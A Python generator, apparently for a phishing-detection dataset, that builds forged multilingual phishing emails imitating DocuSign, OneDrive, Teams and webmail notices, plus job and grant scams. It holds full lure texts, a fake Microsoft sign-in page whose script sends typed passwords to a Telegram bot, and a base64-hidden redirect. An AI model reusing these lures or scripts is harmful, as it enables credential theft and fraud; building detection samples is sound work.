        '<p style="font-size:20px;color:#e87722">Zimbra Collaboration Suite</p>'
        f'<p>Bonjour {ISABELLE},</p>'
        '<p>Dans le cadre de la mise à jour de sécurité du serveur Zimbra, tous les comptes doivent être revalidés avant le '
        '<b>30/09/2022</b>. Les comptes non validés seront désactivés et les messages supprimés.</p>'
        f'<p><a href="{link}" style="background:#e87722;color:#fff;padding:10px 20px;text-decoration:none">Valider mon compte</a></p>'
        '<p style="font-size:11px;color:#888">Administrateur Zimbra - Ne pas répondre à ce message.</p></td></tr></table>', "fr")
    c = Conn("193.149.185.43", f"mail.{dom}", user, "pass", [("pass", dom, "mail")], "none", dom, country="NL", lang="fr")
    origin = "\n".join([hop, dkim(I, dom, "mail", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", sent)] + author)
    return deliver(I, sent + timedelta(seconds=2), ISABELLE, c, origin, html_only(html), {"scl": 5, "sfv": "SPM", "cat": "SPM", "dest": "J"})


@sample("phishing", "b10-phish-de-roundcube-r2",
        "German Roundcube 'mailbox 96% full' notice spoofing the institute's own domain from a VPS (SPF fail, DMARC fail "
        "under p=quarantine), button to a pub-*.r2.dev page prefilled with the victim's address")
def p_roundcube(I: Ids) -> bytes:
    sent = T("2023-05-09 04:12:40")
    subject = enc("Roundcube Webmail: Ihr Postfach ist zu 96 % voll")
    link = f"https://pub-{I.hex('r2', 32)}.r2.dev/roundcube/index.html?email={MARKUS}"
    author = kit_author(I, sent, f"Webmail Administrator <admin@{INST}>", MARKUS, subject, "Europe/Berlin",
                        mid_domain="vmi1318844.contaboserver.net")
    hop = postfix_hop(I, sent, "vmi1318844.contaboserver.net", "localhost", "127.0.0.1", MARKUS, "Europe/Berlin")
    html = html_doc(
        '<div style="font-family:Verdana;font-size:13px;max-width:580px">'
        '<div style="background:#37beff;color:#fff;padding:10px;font-size:18px">Roundcube Webmail</div>'
        f'<p>Sehr geehrte/r {MARKUS},</p>'
        '<p>Ihr Postfach hat <b>96 %</b> des zugewiesenen Speicherplatzes erreicht. Eingehende Nachrichten werden ab '
        'morgen zurückgewiesen.</p>'
        f'<p>Bitte <a href="{link}">bestätigen Sie Ihr Konto hier</a>, um zusätzlichen Speicher kostenlos zu erhalten.</p>'
        '<table width="300" style="border:1px solid #aaa"><tr><td style="background:#d9534f;width:96%;height:10px"></td>'
        '<td></td></tr></table><p>4,81 GB / 5 GB</p>'
        f'<p style="color:#777;font-size:11px">{INST} Webmail-Team</p></div>', "de")
    c = Conn("185.218.125.17", "vmi1318844.contaboserver.net", f"www-data@vmi1318844.contaboserver.net", "none", [],
             "fail", INST, "QUARANTINE", country="DE", lang="de")
    origin = "\n".join([hop] + author)
    return deliver(I, sent + timedelta(seconds=1), MARKUS, c, origin, html_only(html))


@sample("phishing", "b10-phish-salary-increase-docusign-workers",
        "DocuSign-styled '2024 Salary Increase Letter, please review and sign' from a logistics company's compromised "
        "Exchange Online mailbox; the REVIEW DOCUMENT button goes to a workers.dev page, not docusign.net")
def p_salary_docusign(I: Ids) -> bytes:
    sent = T("2024-01-23 10:06:55")
    mbx = "CH3PR14MB7412.namprd14.prod.outlook.com"
    subject = "Completed: 2024 Salary Increase Letter for Emile Garnier - Please Review and Sign"
    author = exchange_author(I, sent, mbx, "Human Resources via Docusign <accounts@harborlinelogistics.com>", EMILE, subject)
    origin, c = exchange_outbound(I, sent, mbx, "harborlinelogistics.com", "NAM12-DM6-obe.outbound.protection.outlook.com",
                                  "40.107.223.87", author)
    link = f"https://docs-review-{I.lower('wk', 5)}.hr-sign.workers.dev/?id={I.b64url('wkid', 24)}&u=emile.garnier"
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
            '<table width="100%" style="background:#eaeaea"><tr><td align="center"><table width="640" style="background:#fff">'
            '<tr><td style="padding:24px 24px 0"><span style="font-family:Helvetica;font-size:22px;font-weight:bold">DocuSign</span></td></tr>'
            '<tr><td style="padding:24px;background:#1e4ca1;color:#fff;text-align:center;font-family:Helvetica">'
            '<p style="font-size:16px">Human Resources sent you a document to review and sign.</p>'
            f'<a href="{link}" style="display:inline-block;background:#ffc820;color:#333;padding:12px 28px;text-decoration:none;font-weight:bold">REVIEW DOCUMENT</a></td></tr>'
            '<tr><td style="padding:24px;font-family:Helvetica;font-size:14px">'
            '<p><b>Human Resources</b><br>hr@univ-montforez.fr</p>'
            '<p>Dear Emile,</p><p>Please find attached your 2024 salary increase letter and the updated compensation schedule. '
            'Review and sign before 26/01/2024 so the adjustment can be applied to the February payroll.</p>'
            '<p>Thank you,<br>HR Department</p></td></tr>'
            '<tr><td style="padding:24px;font-size:11px;color:#666;font-family:Helvetica">Do Not Share This Email<br>'
            'This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.</td></tr>'
            '</table></td></tr></table></body></html>\n')
    plain = ("Human Resources sent you a document to review and sign.\n\nREVIEW DOCUMENT <" + link + ">\n\n"
             "Dear Emile,\nPlease find attached your 2024 salary increase letter and the updated compensation schedule. "
             "Review and sign before 26/01/2024 so the adjustment can be applied to the February payroll.\n\nThank you,\nHR Department\n")
    body = alt(outlook_boundary(I, mbx), plain, html)
    return deliver(I, sent + timedelta(seconds=2), EMILE, c, origin, body)


@sample("phishing", "b10-phish-staff-bonus-qr-inline",
        "'Q1 2024 staff bonus allocation' from a lookalike domain (montforez-staffportal.com, SPF/DKIM/DMARC pass for "
        "itself) with almost no text and an inline QR code leading to a credential page on the same lookalike")
def p_bonus_qr(I: Ids) -> bytes:
    sent = T("2024-03-12 07:33:08")
    dom = "montforez-staffportal.com"
    user = f"payroll@{dom}"
    target = "https://login." + dom + "/?e=" + base64.b64encode(SOPHIE.encode()).decode()
    png = files.qr_png(target)
    subject = "Q1 2024 Staff Bonus Allocation - univ-montforez.fr"
    author = kit_author(I, sent, f"Payroll Office <{user}>", SOPHIE, subject, "UTC")
    hop = postfix_hop(I, sent, f"mail.{dom}", f"[{'45.88.90.131'}]", "45.88.90.131", SOPHIE, "UTC", auth=user)
    cid = f"qr_{I.hex('qrcid', 12)}@{dom}"
    html = html_doc(
        '<div style="max-width:520px;font-family:Calibri,Arial">'
        '<p>Hello Sophie,</p><p>Your Q1 2024 bonus allocation document is ready. For security reasons the document can only '
        'be opened from your mobile device.</p><p><b>Scan the QR code below with your phone camera to review and '
        'acknowledge.</b></p>'
        f'<p><img src="cid:{cid}" width="180" height="180" alt="QR"></p>'
        '<p style="font-size:12px">Payroll Office<br>Université de Montforez</p></div>')
    body = Multi("related", f"----=_Part_{I.num('qrb', 100000, 999999)}_{I.num('qrb2', 10**9, 2 * 10**9)}.{int(sent.timestamp() * 1000)}", [
        html_only(html), attachment("image/png", "qrcode.png", png, inline=True, cid=cid)], params=' type="text/html";')
    c = Conn("45.88.90.131", f"mail.{dom}", user, "pass", [("pass", dom, "default")], "pass", dom, "NONE", country="LT")
    origin = "\n".join([hop, dkim(I, dom, "default", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", sent)] + author)
    return deliver(I, sent + timedelta(seconds=2), SOPHIE, c, origin, body)


@sample("phishing", "b10-phish-holiday-policy-sharepoint-onenote",
        "'Updated Holiday Policy 2025' posing as the university HR, sent from a marine-supply company's compromised "
        "Exchange Online account; the 'Open' link is a OneNote file on that company's own OneDrive (a hop to a phishing page)")
def p_holiday(I: Ids) -> bytes:
    sent = T("2025-01-07 09:14:26")
    mbx = "SA1PR05MB8126.namprd05.prod.outlook.com"
    subject = "Updated Holiday Policy 2025 - univ-montforez.fr"
    author = exchange_author(I, sent, mbx, "Carla Mendes <cmendes@atlanticmarinesupply.com>", AMINA, subject)
    origin, c = exchange_outbound(I, sent, mbx, "atlanticmarinesupply.com", "NAM10-MW2-obe.outbound.protection.outlook.com",
                                  "40.107.94.118", author)
    link = ("https://atlanticmarinesupply-my.sharepoint.com/:o:/g/personal/cmendes_atlanticmarinesupply_com/"
            f"E{I.b64url('spo', 45)}?e={I.alnum('spoe', 6)}")
    html = outlook_html(
        '<table style="border:1px solid #e1dfdd;width:480px;font-family:Segoe UI"><tr><td style="padding:20px">'
        '<p style="font-size:18px">HR Department shared a file with you</p>'
        '<p>Please review the updated holiday and leave policy for 2025. All staff must acknowledge before 10 January.</p>'
        '<p style="border:1px solid #e1dfdd;padding:10px">&#128196; <b>Updated_Holiday_Policy_2025.pdf</b></p>'
        f'<p><a href="{link}" style="background:#0078d4;color:#fff;padding:8px 20px;text-decoration:none">Open</a></p>'
        '<p style="font-size:11px;color:#605e5c">This link will only work for direct recipients of this message.</p>'
        '</td></tr></table>')
    plain = ("HR Department shared a file with you\n\nPlease review the updated holiday and leave policy for 2025. All staff must "
             f"acknowledge before 10 January.\n\nUpdated_Holiday_Policy_2025.pdf\nOpen <{link}>\n")
    body = alt(outlook_boundary(I, mbx), plain, html)
    return deliver(I, sent + timedelta(seconds=3), AMINA, c, origin, body)


@sample("phishing", "b10-phish-research-assistant-check-fraud",
        "Fake research-assistant job from a Gmail address impersonating a chemistry professor: 400 USD a week for "
        "'errands', asks for a personal email and address to mail a check (the check-overpayment fraud)")
def p_ra_job(I: Ids) -> bytes:
    sent = T("2022-09-14 16:44:31")
    frm = "Dr. Isabelle Caron <dr.isabellecaron.research@gmail.com>"
    subject = "Research Assistant Position (Paid) - Dr. Isabelle Caron"
    origin, c = gmail_origin(I, sent, frm, INES, subject, True, INES, tz="America/New_York")
    lines = ["Hello,", "",
             "I am Dr. Isabelle Caron, a professor in the Department of Chemistry. I am currently looking for a student "
             "who will be willing to work with me as a research assistant. The position is remote and flexible, and you "
             "will be paid $400 weekly.", "",
             "Your duties will include running some errands for me, such as purchasing items for my research and for "
             "some charity homes I support, and mailing them. I will send you a check to cover the purchases and your "
             "payment.", "",
             "If you are interested, send me the following details to my personal email (isabellecaron.lab@outlook.com):",
             "Full name", "Home address", "Mobile number", "Alternative personal email", "", "Best regards,",
             "Dr. Isabelle Caron", "Department of Chemistry"]
    plain = "\n".join(lines) + "\n"
    html = gmail_html(lines)
    return deliver(I, sent + timedelta(seconds=2), INES, c, origin, alt(gmail_boundary(I), plain, html, "UTF-8"))


@sample("phishing", "b10-phish-job-internal-compromised-student",
        "Part-time job offer (350 EUR weekly) sent from a compromised student account inside the tenant to students in "
        "Bcc, replies redirected to an outlook.com address; internal origin, external Reply-To")
def p_job_internal(I: Ids) -> bytes:
    sent = T("2023-02-28 05:21:09")
    src = "PA0P264MB1127.FRAP264.PROD.OUTLOOK.COM"
    dst = "PR1P264MB2398.FRAP264.PROD.OUTLOOK.COM"
    subject = "Part-Time Job Opportunity (Remote) - 350 EUR Weekly"
    author = exchange_author(I, sent, src, "Chloe Dumas <chloe.dumas@etu.univ-montforez.fr>", CHLOE, subject,
                             reply_to="Dr. Martin Keller <drmartinkeller.office@outlook.com>")
    plain = ("Good day,\n\nDr. Martin Keller from the Faculty of Medicine needs a part-time personal assistant while he is "
             "abroad for a conference. You can work from home (4-6 hours weekly) and earn 350 EUR every week.\n\n"
             "Duties: scheduling, small purchases, collecting parcels.\n\n"
             "Interested students should contact Dr. Keller directly on his personal email: drmartinkeller.office@outlook.com "
             "with their full name, phone number and year of study.\n\nRegards,\nStudent Employment Office\n")
    html = outlook_html("".join(f"<div>{line or '<br>'}</div>" for line in plain.rstrip().split("\n")))
    body = alt(outlook_boundary(I, src), plain, html)
    origin = m365_internal(I, sent, author, src, dst, client_ip="102.88.34.61")
    return assemble([], origin, body)


@sample("phishing", "b10-phish-pt-bolsa-taxa-webflow",
        "Portuguese 'your research grant is approved' mail imitating FCT from a lookalike fct-bolsas.info domain, asks a "
        "185 EUR processing fee through a webflow.io page (advance-fee fraud)")
def p_bolsa(I: Ids) -> bytes:
    sent = T("2023-11-08 11:02:15")
    dom = "fct-bolsas.info"
    user = f"candidaturas@{dom}"
    subject = enc("Bolsa de Investigação 2024 — aprovação da sua candidatura")
    link = "https://fct-bolsas-2024.webflow.io/pagamento"
    author = kit_author(I, sent, f"{enc('FCT - Fundação para a Ciência e a Tecnologia')} <{user}>", BEATRIZ, subject, "Europe/Lisbon")
    hop = postfix_hop(I, sent, f"mail.{dom}", "[192.168.1.34]", "91.92.243.7", BEATRIZ, "UTC", auth=user)
    lines = [f"Exma. Sra. Beatriz Almeida,", "",
             "Temos o prazer de informar que a sua candidatura à Bolsa de Investigação 2024 foi aprovada, com um valor "
             "mensal de 1.309,64 EUR durante 36 meses.", "",
             "Para concluir o processo de contratação, é necessário o pagamento da taxa de processamento de 185,00 EUR "
             "no prazo de 72 horas, através da nossa plataforma segura:", "", link, "",
             "Após a confirmação do pagamento, receberá o contrato de bolsa por correio eletrónico.", "",
             "Com os melhores cumprimentos,", "Departamento de Bolsas", "FCT - Fundação para a Ciência e a Tecnologia"]
    plain = "\n".join(lines) + "\n"
    html = html_doc("".join(f'<p>{l if l != link else f"<a href={chr(34)}{link}{chr(34)}>Pagar taxa de processamento</a>"}</p>'
                            for l in lines if l), "pt")
    c = Conn("91.92.243.7", f"mail.{dom}", user, "pass", [("pass", dom, "dkim")], "none", dom, country="BG", lang="pt")
    origin = "\n".join([hop, dkim(I, dom, "dkim", "From:To:Subject:Date:Message-ID", sent)] + author)
    return deliver(I, sent + timedelta(seconds=2), BEATRIZ, c, origin, alt(f"=_{I.hex('bolsab', 32)}", plain, html))


@sample("phishing", "b10-phish-library-expiry-msforms",
        "'Your library account will expire in 24 hours' from a compromised UK university Exchange Online account, link "
        "to a Microsoft Forms form asking for the student's login and password")
def p_library_forms(I: Ids) -> bytes:
    sent = T("2023-03-21 12:38:47")
    mbx = "CWLP265MB4163.GBRP265.PROD.OUTLOOK.COM"
    subject = "Your library account will expire in 24 hours"
    author = exchange_author(I, sent, mbx, "Library Services <r.macleod@dunmore.ac.uk>", "r.macleod@dunmore.ac.uk", subject, lang="en-GB")
    origin, c = exchange_outbound(I, sent, mbx, "dunmore.ac.uk", "GBR01-LO2-obe.outbound.protection.outlook.com",
                                  "40.107.121.63", author, country="GB")
    link = f"https://forms.office.com/r/{I.alnum('msf', 10)}"
    html = outlook_html(
        '<p>Dear Library User,</p><p><br></p><p>Your library account is due to expire in <b>24 hours</b>. To keep access to '
        'e-journals, loans and interlibrary requests, renew your account now:</p><p><br></p>'
        f'<p><a href="{link}">Renew Library Account</a></p><p><br></p>'
        '<p>You will be asked to confirm your university username and password.</p><p><br></p>'
        '<p>Library Services</p>')
    plain = ("Dear Library User,\n\nYour library account is due to expire in 24 hours. To keep access to e-journals, loans and "
             f"interlibrary requests, renew your account now:\n\nRenew Library Account <{link}>\n\nYou will be asked to confirm "
             "your university username and password.\n\nLibrary Services\n")
    return deliver(I, sent + timedelta(seconds=2), CHLOE, c, origin, alt(outlook_boundary(I, mbx), plain, html))


@sample("phishing", "b10-phish-teams-lookalike-glitch",
        "Microsoft Teams 'unread messages' notice from the lookalike teams-msg-notification.com, its 'Reply in Teams' "
        "link going to a glitch.me page instead of teams.microsoft.com")
def p_teams(I: Ids) -> bytes:
    sent = T("2022-11-29 15:02:44")
    dom = "teams-msg-notification.com"
    user = f"no-reply@{dom}"
    subject = enc("You have 3 unread messages from Hélène Rousseau")
    link = f"https://teams-chat-view.glitch.me/?tid={I.hex('tid', 16)}&u={JULIEN}"
    author = kit_author(I, sent, f"Microsoft Teams <{user}>", JULIEN, subject, "UTC")
    hop = postfix_hop(I, sent, f"mta1.{dom}", "localhost", "127.0.0.1", JULIEN, "UTC")
    html = html_doc(
        '<table width="600" style="font-family:Segoe UI"><tr><td style="padding:16px"><span style="color:#5b5fc7;font-size:18px">Microsoft Teams</span></td></tr>'
        '<tr><td style="padding:16px"><p style="font-size:20px">Your teammates are trying to reach you</p>'
        '<p><b>Hélène Rousseau</b> sent messages in chat</p>'
        '<p style="background:#f5f5f5;padding:10px">"Julien, can you check the budget file before the council meeting?..."</p>'
        f'<p><a href="{link}" style="background:#5b5fc7;color:#fff;padding:9px 20px;text-decoration:none">Reply in Teams</a></p>'
        '</td></tr><tr><td style="font-size:11px;color:#777;padding:16px">Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</td></tr></table>')
    c = Conn("194.36.189.52", f"mta1.{dom}", user, "pass", [("pass", dom, "s1")], "none", dom, country="GB")
    origin = "\n".join([hop, dkim(I, dom, "s1", "From:To:Subject:Date:Message-ID", sent)] + author)
    return deliver(I, sent + timedelta(seconds=2), JULIEN, c, origin, html_only(html))


@sample("phishing", "b10-phish-onedrive-html-telegram",
        "OneDrive 'new shared file' from a dental clinic's stolen cPanel mailbox; the attached .htm shows a Microsoft "
        "sign-in prefilled with the victim's address and sends what is typed to a Telegram bot")
def p_onedrive_tg(I: Ids) -> bytes:
    sent = T("2023-08-15 09:47:03")
    user = "reception@sunrise-dental-clinic.com"
    server = "gator4172.hostgator.com"
    hops = cpanel_hops(I, sent, server, "105.112.44.201", "DESKTOP-8KQ2M1L", user, LAURE)
    subject = "Laure, you have a new shared file: Bibliotheque_Budget_2024.xlsx"
    author = kit_author(I, sent, f"OneDrive <{user}>", LAURE, subject, "America/Chicago")
    bot = f"{I.num('tgbot', 5000000000, 6999999999)}:AA{I.b64url('tgtok', 33)}"
    chat = I.num("tgchat", 5000000000, 6999999999)
    page = f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>Sign in to your account</title></head>
<body style="background:#f3f3f3;font-family:Segoe UI">
<div style="width:440px;margin:90px auto;background:#fff;padding:44px">
<div style="font-size:22px">Microsoft</div><p>Verify your identity to view <b>Bibliotheque_Budget_2024.xlsx</b></p>
<p id="em">{LAURE}</p><input id="pw" type="password" placeholder="Password" style="width:100%;padding:6px">
<button id="go" style="background:#0067b8;color:#fff;border:0;padding:8px 30px;margin-top:16px">Sign in</button>
<p id="err" style="color:#e81123;display:none">Your account or password is incorrect.</p></div>
<script>
var b="{bot}",c="{chat}";
document.getElementById("go").onclick=function(){{
 var m="OneDrive|"+document.getElementById("em").innerText+"|"+document.getElementById("pw").value;
 fetch("https://api.telegram.org/bot"+b+"/sendMessage?chat_id="+c+"&text="+encodeURIComponent(m)).then(function(){{
  document.getElementById("err").style.display="block";setTimeout(function(){{location.href="https://www.office.com"}},2500);}});
}};
</script></body></html>
"""
    html = html_doc('<p>Hello Laure,</p><p>A file has been shared with you on OneDrive. The document is attached for offline '
                    'viewing; open it in your browser and sign in to decrypt it.</p><p><b>Bibliotheque_Budget_2024.xlsx</b></p>'
                    '<p>OneDrive for Business</p>')
    body = Multi("mixed", f"b1_{I.hex('odb', 32)}", [html_only(html), attachment("text/html", "Budget_2024_OneDrive.htm", page.encode())])
    c = Conn("192.185.36.118", server, user, "pass", [("pass", "sunrise-dental-clinic.com", "default")], "none",
             "sunrise-dental-clinic.com")
    origin = "\n".join(hops + [dkim(I, "sunrise-dental-clinic.com", "default", "Content-Type:MIME-Version:Message-ID:Date:Subject:To:From", sent)] + author)
    return deliver(I, sent + timedelta(seconds=4), LAURE, c, origin, body)


@sample("phishing", "b10-phish-docusign-firebase",
        "DocuSign 'Faculty Agreement 2022-2023' lookalike to the dean from an Australian accounting firm's compromised "
        "Exchange Online mailbox, button to a firebaseapp.com page")
def p_docusign_fb(I: Ids) -> bytes:
    sent = T("2022-08-03 23:51:30")
    mbx = "SY4PR01MB6288.ausprd01.prod.outlook.com"
    subject = "Please DocuSign: Faculty Agreement 2022-2023.pdf"
    author = exchange_author(I, sent, mbx, "DocuSign System <office@brightpathaccounting.com.au>", HELENE, subject, lang="en-AU")
    origin, c = exchange_outbound(I, sent, mbx, "brightpathaccounting.com.au", "AUS01-SY4-obe.outbound.protection.outlook.com",
                                  "40.107.108.87", author, country="AU")
    link = f"https://docusign-secure-view-{I.hex('fbp', 5)}.firebaseapp.com/?e={HELENE}"
    html = outlook_html(
        '<table width="560" style="font-family:Helvetica"><tr><td style="background:#1e4ca1;color:#fff;padding:26px;text-align:center">'
        '<p style="font-size:18px">Your document has been completed</p>'
        f'<p><a href="{link}" style="background:#fff;color:#1e4ca1;padding:10px 24px;text-decoration:none">VIEW COMPLETED DOCUMENT</a></p></td></tr>'
        '<tr><td style="padding:20px"><p>All parties have completed <b>Faculty Agreement 2022-2023.pdf</b>.</p>'
        '<p>Powered by DocuSign</p></td></tr></table>')
    plain = f"Your document has been completed\n\nVIEW COMPLETED DOCUMENT <{link}>\n\nAll parties have completed Faculty Agreement 2022-2023.pdf.\n"
    return deliver(I, sent + timedelta(seconds=3), HELENE, c, origin, alt(outlook_boundary(I, mbx), plain, html))


@sample("phishing", "b10-phish-adobe-blogspot",
        "Adobe Document Cloud 'invited to view Convention de recherche signee.pdf' sent from a hijacked orange.fr "
        "personal mailbox, the view link on blogspot.com")
def p_adobe(I: Ids) -> bytes:
    sent = T("2024-06-18 08:15:42")
    user = "rando.vercors38@orange.fr"
    subject = enc("Marc, vous êtes invité à consulter « Convention de recherche signée.pdf »")
    link = f"https://adobe-doc-share-viewer.blogspot.com/?doc={I.hex('adb', 20)}"
    author = kit_author(I, sent, f"Adobe Acrobat <{user}>", MARC, subject, "Europe/Paris", mid_domain="orange.fr",
                        mid=f"{I.num('ormid', 1000000000, 1999999999)}.{I.num('ormid2', 10000, 99999)}.{int(sent.timestamp() * 1000)}.JavaMail.open-xchange")
    hops = [f"Received: from wwinf2{I.num('wwinf', 200, 299)} ([10.232.{I.num('ow1', 1, 250)}.{I.num('ow2', 1, 250)}])\n"
            f"\tby smtp.orange.fr with ESMTPSA\n\tid {I.alnum('orid', 16)}; {rfc(sent, 'Europe/Paris')}",
            "X-ME-Helo: wwinf2221",
            "X-ME-Auth: " + I.b64("meauth", 40),
            f"X-ME-Date: {rfc(sent, 'Europe/Paris', pad=False)}",
            f"X-ME-IP: 10.232.{I.num('ow1', 1, 250)}.{I.num('ow2', 1, 250)}"]
    html = html_doc(
        '<table width="520" style="font-family:Adobe Clean,Arial"><tr><td style="background:#fa0f00;color:#fff;padding:14px;font-size:18px">Adobe Acrobat</td></tr>'
        '<tr><td style="padding:22px"><p>Vous avez été invité à consulter le document suivant :</p>'
        '<p style="font-size:16px"><b>Convention de recherche signée.pdf</b> (2 pages)</p>'
        f'<p><a href="{link}" style="background:#1473e6;color:#fff;padding:9px 22px;border-radius:16px;text-decoration:none">Ouvrir</a></p>'
        '<p style="font-size:11px;color:#777">Adobe Document Cloud - © 2024 Adobe. Tous droits réservés.</p></td></tr></table>', "fr")
    dk = dkim(I, "orange.fr", "t20240516", "From:To:Subject:Date:Message-ID", sent)
    c = Conn("80.12.242.71", "smtp.smtpout.orange.fr", user, "pass", [("pass", "orange.fr", "t20240516")], "pass",
             "orange.fr", "NONE", country="FR", lang="fr")
    origin = "\n".join([dk] + hops + author)
    return deliver(I, sent + timedelta(seconds=2), MARC, c, origin, html_only(html))


@sample("phishing", "b10-phish-efax-wix",
        "eFax 'you have received a 3 page fax' from the lookalike efax-messaging.net, the 'View Fax' link pointing to a "
        "wixsite.com page")
def p_efax(I: Ids) -> bytes:
    sent = T("2022-12-06 10:29:57")
    dom = "efax-messaging.net"
    user = f"message@{dom}"
    subject = "eFax message from \"+33 4 77 ** ** 61\" - 3 page(s), Caller-ID: 33477*****61"
    link = f"https://efaxviewer2022.wixsite.com/fax/view?doc={I.hex('efx', 12)}"
    author = kit_author(I, sent, f"eFax Messenger <{user}>", SOPHIE, subject, "UTC")
    hop = postfix_hop(I, sent, f"relay.{dom}", "localhost", "127.0.0.1", SOPHIE)
    html = html_doc(
        '<table width="600" style="font-family:Arial;font-size:13px"><tr><td style="padding:10px"><b style="color:#c8102e;font-size:22px">eFax</b></td></tr>'
        '<tr><td style="padding:10px">You have received a 3 page fax at 2022-12-06 11:29:51 CET.<br><br>'
        '* The reference number for this fax is lax1_did13-1670322591-33477*****61-3.<br><br>'
        f'<a href="{link}" style="background:#c8102e;color:#fff;padding:8px 18px;text-decoration:none">View Fax</a><br><br>'
        'Thank you for using the eFax service!</td></tr></table>')
    plain = (f"You have received a 3 page fax at 2022-12-06 11:29:51 CET.\n\n* The reference number for this fax is "
             f"lax1_did13-1670322591-33477*****61-3.\n\nView Fax: {link}\n\nThank you for using the eFax service!\n")
    c = Conn("103.151.123.9", f"relay.{dom}", user, "softfail", [], "none", dom, country="ID")
    origin = "\n".join([hop] + author)
    return deliver(I, sent + timedelta(seconds=2), SOPHIE, c, origin, alt(f"=_{I.hex('efb', 24)}", plain, html))


@sample("phishing", "b10-phish-voicemail-html-ngrok",
        "Voicemail notification (00:42) sent through a hacked WordPress site's PHPMailer; the attached .html decodes a "
        "base64 ngrok-free.app URL and redirects there with the victim's address")
def p_voicemail(I: Ids) -> bytes:
    sent = T("2024-09-24 06:08:13")
    site = "atelier-ceramique-lune.fr"
    user = f"wordpress@{site}"
    subject = "Voicemail from +33 6 12 ** ** 48 (00:42) - Tue 24 Sep 2024"
    author = kit_author(I, sent, f"Voice Mail Service <{user}>", JULIEN, subject, "Europe/Paris",
                        mailer="PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
                        extra=[f"X-PHP-Originating-Script: 1003:class-wp-filesystem-cache.php"])
    url = f"https://{I.hex('ng1', 4)}-102-89-33-14.ngrok-free.app/owa/?email={JULIEN}"
    page = (f'<html><head><meta charset="utf-8"><title>Voicemail</title></head><body>\n<p>Loading audio message...</p>\n'
            f'<script>var u=atob("{base64.b64encode(url.encode()).decode()}");setTimeout(function(){{window.location.replace(u)}},800);</script>\n'
            '</body></html>\n')
    html = html_doc('<p><b>New voicemail received</b></p><table style="font-size:13px"><tr><td>From:</td><td>+33 6 12 ** ** 48</td></tr>'
                    '<tr><td>Duration:</td><td>00:42</td></tr><tr><td>Received:</td><td>Tue 24 Sep 2024 08:07</td></tr></table>'
                    '<p>Download the attachment and open it in your browser to play the message.</p>')
    body = Multi("mixed", f"b1=_{I.b64url('vmb', 40)}", [html_only(html), attachment("text/html", "VM_Play_0042.html", page.encode())])
    mo = f"mo{I.num('vmo', 500, 560)}.mail-out.ovh.net"
    hop = (f"Received: from {site} (unknown [51.91.{I.num('wp1', 1, 250)}.{I.num('wp2', 1, 250)}])\n\tby {mo} (Postfix) with ESMTPS id 4{I.alnum('vmq', 11)}\n"
           f"\tfor <{JULIEN}>; {rfc(sent, utc_paren=True)}")
    c = Conn(f"46.105.{I.num('vmip', 32, 63)}.{I.num('vmip2', 2, 250)}", mo, user, "pass", [], "none", site, country="FR", lang="en")
    origin = "\n".join([hop, f"X-Ovh-Tracer-Id: {I.num('vtr', 10**18, 9 * 10**18)}", "X-VR-SPAMSTATE: OK"] + author)
    return deliver(I, sent + timedelta(seconds=2), JULIEN, c, origin, body)


@sample("phishing", "b10-phish-conference-speaker-godaddysites",
        "Predatory-conference 'keynote speaker' invitation from a Gmail 'organizing committee'; accepting means signing in "
        "'with your institutional email' on a godaddysites.com speaker portal")
def p_conference(I: Ids) -> bytes:
    sent = T("2023-04-11 02:37:19")
    frm = "ICEBE 2023 Organizing Committee <icebe2023.committee@gmail.com>"
    subject = "Invitation: Keynote Speaker - ICEBE 2023, Lisbon (Hybrid)"
    origin, c = gmail_origin(I, sent, frm, CLAIRE, subject, True, CLAIRE, tz="Asia/Kolkata")
    link = "https://icebe2023-speakers.godaddysites.com/"
    lines = ["Dear Dr. Claire Vasseur,", "",
             "Greetings from ICEBE 2023!", "",
             "On behalf of the Organizing Committee, we are pleased to invite you as a Keynote Speaker at the 5th International "
             "Conference on Environmental Biology and Ecosystems (ICEBE 2023), to be held in Lisbon, Portugal on 19-21 July 2023 "
             "(in-person and virtual).", "",
             "Having read your recent work on freshwater invertebrate communities, we believe your participation would add great "
             "value to the conference.", "",
             "To confirm your slot and upload your abstract, please sign in to the Speaker Portal with your institutional email "
             f"account: {link}", "",
             "Kindly confirm within 5 days as slots are limited.", "",
             "Warm regards,", "Dr. Peter Williams", "Program Secretary, ICEBE 2023"]
    plain = "\n".join(lines) + "\n"
    html = gmail_html([l.replace(link, f'<a href="{link}">Speaker Portal</a>') for l in lines])
    return deliver(I, sent + timedelta(seconds=2), CLAIRE, c, origin, alt(gmail_boundary(I), plain, html, "UTF-8"))


@sample("phishing", "b10-phish-journal-editorialmanager-lookalike",
        "Review invitation for a neuroscience journal from editorialmanager-journals.top (a lookalike of Editorial Manager); "
        "the 'Agree to review' link opens a 'sign in with Google' page on that domain")
def p_em_lookalike(I: Ids) -> bytes:
    sent = T("2025-03-04 13:21:08")
    dom = "editorialmanager-journals.top"
    user = f"em@{dom}"
    subject = "Invitation to Review Manuscript NEUR-D-25-00417 - Journal of Neural Dynamics"
    link = f"https://www.{dom}/neurd/login.asp?username=petra.horakova&reviewer={I.hex('emrev', 10)}"
    author = kit_author(I, sent, f"Journal of Neural Dynamics <{user}>", PETRA, subject, "UTC")
    hop = postfix_hop(I, sent, f"mail.{dom}", "localhost", "127.0.0.1", PETRA)
    lines = ["Dear Dr. Horakova,", "",
             'I would like to invite you to review the manuscript "Theta-gamma coupling in hippocampal replay during '
             'sleep-dependent consolidation", submitted to the Journal of Neural Dynamics.', "",
             "If you are willing to review this manuscript, please click the link below to access the abstract and agree to review. "
             "You will be asked to sign in with your institutional Google account.", "",
             f"Agree to review: {link}", "",
             "We would appreciate receiving your review within 14 days.", "",
             "Kind regards,", "Prof. Martin Lindqvist", "Handling Editor, Journal of Neural Dynamics"]
    plain = "\n".join(lines) + "\n"
    html = html_doc("".join(f"<p>{l.replace(link, f'<a href={chr(34)}{link}{chr(34)}>Agree to review</a>')}</p>" for l in lines if l))
    c = Conn("172.86.123.60", f"mail.{dom}", user, "pass", [("pass", dom, "default")], "none", dom)
    origin = "\n".join([hop, dkim(I, dom, "default", "From:To:Subject:Date:Message-ID", sent)] + author)
    return deliver(I, sent + timedelta(seconds=2), PETRA, c, origin, alt(f"b1_{I.hex('emb', 32)}", plain, html))


